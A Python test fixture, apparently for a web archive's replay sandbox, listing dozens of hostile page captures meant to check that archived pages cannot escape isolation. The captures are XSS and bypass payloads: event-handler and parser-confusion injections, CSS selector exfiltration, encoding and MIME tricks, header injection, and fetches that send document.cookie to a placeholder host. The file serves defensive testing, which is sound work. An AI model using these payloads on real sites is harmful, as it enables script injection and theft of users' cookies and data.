"""Captures that try everything a hostile page may try in a browser: each trick by its name.

Tokens are filled in by `browser_bed`: `@live@` and `@host@` are a live site of the row's own, `@api@` an address
of our API that names the row, `@here@` the address of the capture itself in the live web. A script that runs says
so on the console, beginning with ESCAPED.
"""
# ruff: noqa: E501 - markup is easier to read unbroken

from __future__ import annotations

from dataclasses import dataclass

HTML = "text/html; charset=utf-8"


@dataclass(frozen=True)
class Trick:
    """One hostile capture.

    Attributes:
        headers: of the archived answer, besides its type.
        click: the element with the id `go` is clicked once the page is there.
        old: today's Chromium does not fall for it, or not in a fresh context: the control is not caught by it.
    """

    body: str | bytes
    mime: str | None = HTML
    headers: tuple[str, ...] = ()
    status: int = 200
    click: bool = False
    old: bool = False


def script(code: str) -> str:
    """A page whose script says that it runs, and goes on."""
    return f"<!DOCTYPE html><title>x</title><body><script>console.log('ESCAPED script');{code}</script>"


_GO = "onclick=\"console.log('ESCAPED handler')\""
_SVG = "http://www.w3.org/2000/svg"
_XHTML = "http://www.w3.org/1999/xhtml"

TRICKS: dict[str, Trick] = {
    # ── scripts that ask ─────────────────────────────────────────────────────────────────────────
    "fetch": Trick(
        script(
            "fetch('@api@').then(r=>r.text()).then(t=>fetch('@live@/stolen?'+t.length));fetch('@live@/f',{mode:'no-cors',credentials:'include'})"
        )
    ),
    "XMLHttpRequest": Trick(
        script(
            "for(const u of ['@api@','@live@/x']){const x=new XMLHttpRequest();x.open('GET',u);x.withCredentials=true;x.send()}"
        )
    ),
    "sendBeacon and fetch keepalive": Trick(
        script(
            "addEventListener('pagehide',()=>fetch('@live@/late',{keepalive:true,mode:'no-cors'}));navigator.sendBeacon('@api@','a');navigator.sendBeacon('@live@/b','c')"
        )
    ),
    "WebSocket": Trick(script("for(const u of ['@api@','@live@/ws'])new WebSocket(u.replace('http','ws'))")),
    "EventSource": Trick(script("new EventSource('@api@');new EventSource('@live@/events')")),
    "WebRTC": Trick(
        script(
            "const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:@udp@'},{urls:'turn:@host@:80?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))"
        )
    ),
    "form that sends itself": Trick(
        f"<form id=f method=post action='@api@'><input name=a value=1></form><form id=g action='@live@/form'><input name=b></form>{script('document.querySelector(`form`).submit()')}"
    ),
    "form that is clicked": Trick(
        "<form method=post action='@api@' target=_top><button id=go formaction='@live@/post'>go</button></form>",
        click=True,
    ),
    # ── scripts that hide ────────────────────────────────────────────────────────────────────────
    "event handlers": Trick(
        "<body onload=\"fetch('@live@/onload')\"><img src=data:, onerror=\"console.log('ESCAPED onerror')\"><details open ontoggle=\"fetch('@live@/toggle')\"><input autofocus onfocus=\"fetch('@live@/focus')\"><style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart=\"fetch('@live@/anim')\">"
    ),
    "classic script from elsewhere": Trick(
        "<script src='@live@/a.js'></script><script src='@api@' defer></script><script async src=//@host@/b.js></script>"
    ),
    "module and import map": Trick(
        "<script type=importmap>{\"imports\":{\"a\":\"@live@/mapped.js\"}}</script><script type=module>import 'a';import('@live@/dynamic.js')</script><script type=module src='@live@/m.js'></script>"
    ),
    "worker": Trick(
        script(
            "const b=new Blob([\"console.log('ESCAPED worker');importScripts('@live@/w.js');fetch('@api@')\"]);new Worker(URL.createObjectURL(b))"
        )
    ),
    "shared worker": Trick(
        script(
            "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('@live@/shared')\"])));new SharedWorker('sw.js')"
        )
    ),
    "service worker": Trick(
        script(
            "navigator.serviceWorker.register('@sw@').then(()=>console.log('ESCAPED registered'),e=>console.log('ESCAPED '+e))"
        )
    ),
    "document.write and eval": Trick(
        script(
            "document.write(\"<script src='@live@/written.js'><\\/script>\");eval(\"fetch('@live@/eval')\");setTimeout(\"fetch('@api@')\",1)"
        )
    ),
    "trusted types and a nonce": Trick(
        "<meta http-equiv=Content-Security-Policy content=\"require-trusted-types-for 'script'; script-src 'nonce-a'\"><script nonce=a>const p=trustedTypes.createPolicy('x',{createScriptURL:s=>s});const s=document.createElement('script');s.nonce='a';s.src=p.createScriptURL('@live@/tt.js');document.head.append(s);console.log('ESCAPED nonce')</script>"
    ),
    # ── addresses that are fetched by themselves ─────────────────────────────────────────────────
    "pictures": Trick(
        "<img src='@api@'><img src=//@host@/a.png><img srcset='@live@/b.png 1x, @live@/c.png 2x'><picture><source srcset='@live@/d.png'><img></picture><input type=image src='@live@/e.png'><body background='@live@/f.png'>"
    ),
    "picture addresses in odd spellings": Trick(
        "<img src='\\\\@host@\\a'><img src=' \thttp:&#47;&#x2f;@host@/b\n'><img/src='http:@host@/c'/><img src='ht\ntp://u:p@@host@/d'><image src='@live@/e'><img src='/\\@host@/f'>"
    ),
    "media": Trick(
        "<video autoplay muted src='@live@/v.mp4' poster='@live@/p.png'><track default src='@live@/t.vtt'></video><audio preload=auto src='@live@/a.mp3'></audio><video preload=auto><source src='@api@'></video>"
    ),
    "iframe": Trick(
        "<iframe src='@api@'></iframe><iframe src='@live@/frame'></iframe><iframe src=//@host@/lazy loading=eager></iframe>"
    ),
    "nested frames and a frameset": Trick(
        "<frameset rows='*,*'><frame src='@live@/1'><frame src='@api@'></frameset>"
    ),
    "srcdoc": Trick(
        "<iframe srcdoc=\"<script>console.log('ESCAPED srcdoc')</script><iframe srcdoc='<img src=@live@/inner>'></iframe><img src='@live@/outer'>\"></iframe>"
    ),
    "object and embed": Trick(
        "<object data='@live@/o.html' type=text/html></object><embed src='@api@' type=text/html><object type=image/svg+xml data='@live@/o.svg'><param name=src value='@live@/p'></object>"
    ),
    "prefetch and prerender": Trick(
        "<link rel=prefetch href='@live@/pf'><link rel=prerender href='@live@/pr'><link rel=prefetch href='@api@'><link rel=manifest href='@live@/m.json'>"
    ),
    "preload and modulepreload": Trick(
        "<link rel=preload as=image href='@live@/p.png'><link rel=preload as=script href='@api@'><link rel=modulepreload href='@live@/m.js'><link rel=preload as=image imagesrcset='@live@/q 1x' href=x>"
    ),
    "preconnect and dns-prefetch": Trick(
        "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href='//dns.@host@'><link rel=preconnect href='@live@'><link rel=preconnect href='@live@' crossorigin><a href='//more.@host@'>x</a>",
        old=True,
    ),
    "speculation rules": Trick(
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@api@","@live@/s"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["other"]}]}</script><a href=other>x</a>'
    ),
    "base": Trick(
        "<base href='@live@/base/' target=_top><img src=relative.png><link rel=stylesheet href=s.css><a id=go href=on>on</a>",
        click=True,
    ),
    # ── leaving the page ─────────────────────────────────────────────────────────────────────────
    "meta refresh": Trick("<meta http-equiv=refresh content='0; URL=@live@/refreshed'><p>wait"),
    "meta refresh in odd spellings": Trick(
        "<p>wait<meta HTTP-EQUIV='Refresh' content='0,@api@'><svg><meta http-equiv=refresh content=\"0;'@live@/r'\"></svg><noscript><meta http-equiv=refresh content='0;@live@/n'></noscript>"
    ),
    "top.location": Trick(
        script(
            "try{top.location='@live@/top'}catch(e){};parent.location='@api@';location.replace('@live@/self')"
        )
    ),
    "window.open and window.name": Trick(
        script(
            "window.name='stolen';window.open('@live@/popup');window.open('@api@','_top');open('about:blank').document.write('x')"
        )
    ),
    "ping and target=_top": Trick(
        "<a id=go href='@live@/clicked' target=_top ping='@api@ @live@/ping' attributionsrc='@live@/attribution'>go</a>",
        click=True,
    ),
    "target=_blank with an opener": Trick(
        f"<a id=go href='@live@/blank' target=_blank rel=opener {_GO}>go</a>", click=True
    ),
    "javascript: addresses": Trick(
        "<iframe src=\"javascript:console.log('ESCAPED frame')\"></iframe><a id=go href=\" &#1;java\tscript:console.log('ESCAPED link')\">go</a><form action=\"javascript:console.log('ESCAPED form')\"><object data='javascript:1'></object>",
        click=True,
    ),
    "data: and blob: documents": Trick(
        f"<iframe src=\"data:text/html,<script>console.log('ESCAPED data')</script><img src=@live@/data>\"></iframe>{script('document.body.append(Object.assign(document.createElement(`iframe`),{src:URL.createObjectURL(new Blob([`<img src=@live@/blob>`],{type:`text/html`}))}))')}"
    ),
    "history, dialogs and a download": Trick(
        script(
            "history.pushState(0,'','/cdx');document.body.append(Object.assign(document.createElement('a'),{href:'data:,x',download:'x',id:'d'}));d.click();onbeforeunload=e=>e.preventDefault();alert(1);location.href='@live@/gone'"
        )
    ),
    "links that climb out of /web/": Trick(
        "<img src='/web/../cdx?by=@host@'><img src='/%2e%2e/%2E%2e/cdx?by=@host@'><img src='@api@'><a id=go href='/../../../timegate/@live@'>go</a><link rel=stylesheet href='..\\..\\..\\cdx?by=@host@'>",
        click=True,
    ),
    # ── state ────────────────────────────────────────────────────────────────────────────────────
    "document.cookie": Trick(
        script(
            "console.log('ESCAPED cookie '+document.cookie);document.cookie='evil=1; path=/';fetch('@live@/c?'+document.cookie,{mode:'no-cors'})"
        )
    ),
    "Set-Cookie": Trick(
        "<meta http-equiv=set-cookie content='evil=meta'><p>x",
        headers=("Set-Cookie: evil=1; Path=/; SameSite=Lax", "Set-Cookie: evil2=2; Max-Age=99999"),
    ),
    "Clear-Site-Data": Trick(script("fetch(location)"), headers=('Clear-Site-Data: "*"',)),
    "localStorage and sessionStorage": Trick(
        script(
            "console.log('ESCAPED storage '+localStorage.planted);sessionStorage.a=1;localStorage.planted='evil'"
        )
    ),
    "IndexedDB and Cache API": Trick(
        script(
            "indexedDB.open('x').onsuccess=()=>console.log('ESCAPED idb');caches.open('y').then(c=>c.put('/z',new Response('1'))).then(()=>console.log('ESCAPED cache'))"
        )
    ),
    "postMessage to whoever frames it": Trick(
        script(
            "for(const w of [parent,top,opener])w&&w.postMessage('ESCAPED','*');parent.frames.length;fetch('@live@/pm',{mode:'no-cors'})"
        )
    ),
    # ── style sheets ─────────────────────────────────────────────────────────────────────────────
    "@import": Trick(
        "<style>@import '@live@/a.css';@\\69mport url(@live@/b.css);@import url('@api@') screen</style><link rel='STYLESHEET alternate' href='@live@/c.css'><link rel=stylesheet href=//@host@/d.css>"
    ),
    "url() and image-set()": Trick(
        "<style>p{background:u\\72l('@live@/a.png'),url(@api@)}b{content:image-set('@live@/b.png' 1x)}i{--x:url(@live@/c);cursor:var(--x),auto;list-style-image:-webkit-image-set('@live@/d' 1x)}</style><p>1<b>2</b><i style=\"border-image:url( '@live@/e' );display:list-item\">3</i>"
    ),
    "fonts": Trick(
        "<style>@font-face{font-family:f;src:local(x),url('@live@/f.woff2');unicode-range:U+61}@font-face{font-family:g;src:url(@api@)}p{font-family:f}b{font-family:g}</style><p>a<b>b</b>"
    ),
    "attributes read out by selectors": Trick(
        "<style>input[value^=s]{background:url(@live@/starts-with-s)}a[href*='/web/']{background:url(@live@/archive)}:root:has(p){background:url('@live@/has')}</style><input value=secret><a href=x>x</a><p>"
    ),
    "style sheet that ends its element": Trick(
        '<style>a{content:"\\3c/style>"}b{content:\'</style><img src=@live@/out onerror="console.log(`ESCAPED style`)">\'}</style><p style="background:url(\'@live@/a\n);x:y"><div style=\'background:url(@live@/cut'
    ),
    # ── SVG, MathML, XML ─────────────────────────────────────────────────────────────────────────
    "SVG in the page": Trick(
        "<svg onload=\"console.log('ESCAPED svg')\"><script href='@live@/s.js'/><image href='@live@/i.png' width=9 height=9 /><use href='@live@/u.svg#a'/><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='@live@/f'/></foreignObject><filter id=f><feImage href='@live@/fe'/></filter><rect filter='url(#f)' width=9 height=9 /><a href='javascript:1'><set attributeName=href to='@api@'/></a></svg>"
    ),
    "SVG document": Trick(
        f"<svg xmlns='{_SVG}'><script>console.log('ESCAPED svg');fetch('@api@')</script><image href='@live@/i.png' width='9' height='9'/><style>@import '@live@/s.css';</style></svg>",
        mime="image/svg+xml",
    ),
    "MathML and mutation": Trick(
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=console.log('ESCAPED')&gt;\"></table></mtext></math><math><maction xlink:href='@live@/m'>x</maction><annotation-xml encoding=text/html><img src='@live@/math' onerror=\"console.log('ESCAPED math')\"></annotation-xml></math>"
    ),
    "XML with a style sheet": Trick(
        "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='@live@/s.css'?><?xml-stylesheet type='text/xsl' href='@live@/s.xsl'?><!DOCTYPE a SYSTEM '@live@/d.dtd'><a>x</a>",
        mime="application/xml",
    ),
    "XHTML with a prefix": Trick(
        f"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY e '&#60;script>1&#60;/script>'>]><h:html xmlns:h='{_XHTML}'><h:body><h:script>console.log('ESCAPED xhtml')</h:script><h:img src='@live@/x'/><![CDATA[<script>1</script>]]></h:body></h:html>",
        mime="application/xhtml+xml",
    ),
    # ── header fields ────────────────────────────────────────────────────────────────────────────
    "Link": Trick(
        "<p>x",
        headers=(
            "Link: <@live@/l.css>; rel=stylesheet, <@live@/p.js>; rel=preload; as=script",
            "Link: <@api@>; rel=prefetch",
            "Link: <@live@>; rel=preconnect",
        ),
    ),
    "Refresh": Trick("<p>x", headers=("Refresh: 0; url=@live@/refresh",)),
    "Location out of the archive": Trick("", status=302, headers=("Location: @live@/moved",)),
    "Location to the API": Trick("", status=307, headers=("Location: @api@",)),
    "a policy of its own that reports": Trick(
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><img src=data:,><style>p{}</style>"
        + script(""),
        headers=(
            "Content-Security-Policy-Report-Only: default-src 'none'; report-uri @live@/csp",
            "Content-Security-Policy: img-src 'none'; report-uri @api@",
            'Reporting-Endpoints: default="@live@/reports"',
            'NEL: {"report_to":"default","max_age":99999}',
            "Service-Worker-Allowed: /",
            "Access-Control-Allow-Origin: *",
            "Origin-Agent-Cluster: ?1",
            'Alt-Svc: h2="@host@:80"',
        ),
    ),
    "header fields that break lines": Trick(
        script(""),
        headers=(
            "X-A: a\rContent-Security-Policy: sandbox allow-scripts",
            "X-Frame-Options: ALLOWALL",
            "Content-Disposition: inline",
            "X-Content-Type-Options: none",
        ),
    ),
    "503 with a script": Trick(script("fetch('@live@/error')"), status=503, headers=("Retry-After: 0",)),
    # ── types and encodings ──────────────────────────────────────────────────────────────────────
    "no type at all": Trick(script("fetch('@live@/sniffed')"), mime=None),
    "two types, of which a browser takes the last": Trick(
        "<!DOCTYPE html>" + script("fetch('@live@/confused')"),
        mime="image/png",
        headers=("Content-Type: text/html",),
    ),
    "multipart/x-mixed-replace": Trick(
        "--b\r\nContent-Type: text/html\r\n\r\n" + script("fetch('@live@/part')") + "\r\n--b--",
        mime="multipart/x-mixed-replace; boundary=b",
        old=True,
    ),
    "HTML said to be a picture": Trick(script(""), mime="image/png", old=True),
    "HTML said to be JSON, PDF or a style sheet": Trick("{}" + script(""), mime="application/json", old=True),
    "HTML said to be a PDF": Trick("%PDF-1.7\n" + script(""), mime="application/pdf", old=True),
    "a script said to be a page": Trick(
        "console.log('ESCAPED')/*<html><script src='@live@/poly.js'></script>*/", mime=HTML
    ),
    "UTF-16": Trick(("\ufeff" + script("fetch('@live@/utf16')")).encode("utf-16-le"), mime="text/html"),
    "ISO-2022-JP escapes": Trick(
        b'<meta charset=iso-2022-jp><img title="\x1b$B"><p title=\'\x1b(B" src=data:, onerror=console.log(`ESCAPED`) x=\'>',
        mime="text/html; charset=iso-2022-jp",
        old=True,
    ),
    "UTF-7": Trick(
        "<meta charset=utf-7>+ADw-script+AD4-console.log('ESCAPED')+ADw-/script+AD4-",
        mime="text/html; charset=utf-7",
        old=True,
    ),
    # ── parsers that differ ──────────────────────────────────────────────────────────────────────
    "noscript, template and shadow roots": Trick(
        "<noscript><p title=\"</noscript><img src=@live@/ns onerror=console.log('ESCAPED')>\"></noscript><template><img src='@live@/t'></template><div><template shadowrootmode=open><img src='@live@/shadow' onerror=1></template></div>"
    ),
    "comments that are none": Trick(
        "<!--><img src='@live@/a'>--><!--!><img src='@live@/b'><!-- --!><img src='@live@/c'><!-><img src='@live@/d'>--><![CDATA[><img src='@live@/e'>]]><!-- <![endif]--><title><!--</title><img src='@live@/f'>--></title>"
    ),
    "raw text that ends early": Trick(
        "<xmp><p title='</xmp><img src=@live@/a>'></xmp><textarea><img title='</textarea><img src=@live@/b>'></textarea><noembed><p title='</noembed><script>console.log(`ESCAPED`)</script>'></noembed><select><style></select><img src='@live@/c'></style><plaintext><img src='@live@/d'>"
    ),
    "NUL, controls and odd names": Trick(
        "<scr\0ipt>1</scr\0ipt><img/src='@live@/a'/onerror=1><img \x0csrc\x0c=\x0c'@live@/b'><x:script xmlns:x=http://www.w3.org/1999/xhtml>1</x:script><a<b src=1 ><img src='@live@/c&#0;&#1;'><img ='\"><script>console.log(`ESCAPED`)</script>'"
    ),
    "attributes that break out": Trick(
        '<p title=\'"><script>console.log(`ESCAPED`)</script>\' id="`onclick=1"><img alt=\'"onerror="console.log(1)\' src=\'@live@/"onerror="console.log(2)\'><a href=\'x" onmouseover="1\'>y</a>'
    ),
    "clobbered names": Trick(
        "<img name=cookie src=data:,><form name=body id=location><input name=attributes><img id=currentScript name=defaultView src='@live@/c'></form><a id=go name=go href='//@host@/x'>go</a>",
        click=True,
    ),
}
